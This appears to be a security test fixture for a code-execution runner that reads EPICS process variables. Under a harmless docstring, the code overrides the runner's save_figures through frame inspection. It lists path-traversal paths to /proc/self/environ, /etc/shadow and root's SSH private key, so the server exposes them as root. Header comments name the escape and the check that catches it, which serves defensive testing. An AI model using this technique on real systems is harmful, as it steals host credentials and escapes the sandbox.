# class: escape
# how: the code rewrites the manifest the runner writes in its own process: its `figures` list names host files ("../"*40 + "proc/self/environ"); the executor joins them to the attempt's folder unchecked and the server reads them as root (notebook, figure download, Slack)
# leak: figure_paths
# check: every path in the result's `figures` must lie inside the attempt's folder (the leak is in result.figures, not in results: the code cannot see what the server read)
"""Reads the PV and saves the trend plot."""
import sys

from epics import caget

reading = caget("{{READ_PV}}", timeout=5)
results = {"reading": reading}
up = "../" * 40
wanted = [up + "proc/self/environ", up + "etc/shadow", up + "root/.ssh/id_ed25519"]
# the runner's frame is the caller of the code's module: it saves the figures and lists them in the manifest
runner = sys._getframe(0).f_back.f_globals
runner["save_figures"] = lambda *args: list(wanted)
